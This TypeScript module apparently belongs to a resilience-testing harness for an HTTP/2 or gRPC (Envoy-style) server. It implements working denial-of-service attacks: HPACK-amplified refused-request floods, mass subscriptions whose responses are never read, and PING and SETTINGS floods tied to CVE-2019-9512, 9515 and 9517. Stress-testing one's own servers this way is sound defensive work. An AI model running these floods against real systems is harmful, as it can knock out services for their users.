import type { Attack, Target } from './attacks.ts';
import { field, frame, headers, literal, RawConnection, requestBlock, setting } from './raw-connection.ts';
import { again } from './repeat.ts';

/** Fills most of the header table, and becomes three times as long where it is escaped. */
const path = '%'.repeat(3_700);

/** A request with that path; what follows the first one costs 13 bytes, as everything stands in the table by then. */
function refusedRequest(id: number, grpc: boolean): Buffer {
  const known = [0x83, 0x86, ...(grpc ? [0xbf, 0xbe] : [0xbe])];
  if (id > 1) return headers(id, Buffer.from(known), true);
  const block = [literal(4, path), ...(grpc ? [literal(31, 'application/grpc')] : [])];
  return headers(id, Buffer.concat([Buffer.from([0x83, 0x86]), ...block]), true);
}

/** Refused requests: a few bytes each, answered with as much as the server says. */
function refused(reads: boolean, grpc: boolean): Attack['run'] {
  return async ({ port, over }) =>
    again(over, async () => {
      const connection = await RawConnection.open(port);
      if (!reads) connection.socket.pause();
      for (let turn = 0; connection.isOpen && !over(); turn++) {
        const batch = Array.from({ length: 1_000 }, (_, index) => refusedRequest((turn * 1_000 + index) * 2 + 1, grpc));
        connection.write(Buffer.concat(batch));
        await connection.drained();
      }
      connection.socket.destroy();
    });
}

/** Requests whose responses nobody reads, on every stream of a connection. */
async function unreadResponses({ port, over }: Target): Promise<void> {
  await again(over, async () => {
    const connection = await RawConnection.open(port, setting(4, 2 ** 31 - 1));
    connection.write(frame('windowUpdate', 0, 0, Buffer.from([0x3f, 0xff, 0, 0])));
    connection.socket.pause();
    const request = field(4, 'type.googleapis.com/envoy.config.cluster.v3.Cluster');
    for (let id = 1; id < 200; id += 2) {
      connection.write(headers(id, requestBlock()));
      connection.message(id, request);
    }
    while (connection.isOpen && !over()) await new Promise((resolve) => setTimeout(resolve, 50));
    connection.socket.destroy();
  });
}

/** Frames that have to be answered, from somebody who does not read. */
function unreadAnswers(answered: Uint8Array): Attack['run'] {
  return async ({ port, over }) =>
    again(over, async () => {
      const connection = await RawConnection.open(port);
      connection.socket.pause();
      const batch = Buffer.concat(Array.from({ length: 1_000 }, () => answered));
      while (connection.isOpen && !over()) {
        connection.write(batch);
        await connection.drained();
      }
      connection.socket.destroy();
    });
}

export const unreadAttacks: Readonly<Record<string, Attack>> = {
  'refused-unread': { what: 'refused requests of 13 bytes whose answers are not read', run: refused(false, true) },
  'refused-read': { what: 'the same, read', run: refused(true, true) },
  'not-grpc-unread': { what: 'requests that are not gRPC, answers not read', run: refused(false, false) },
  'responses-unread': { what: '100 subscriptions a connection, responses not read', run: unreadResponses },
  'ping-unread': {
    what: 'PING, answers not read (CVE-2019-9512, 9517)',
    run: unreadAnswers(frame('ping', 0, 0, Buffer.alloc(8))),
  },
  'settings-unread': {
    what: 'SETTINGS, answers not read (CVE-2019-9515)',
    run: unreadAnswers(frame('settings', 0, 0, setting(4, 70_000))),
  },
};
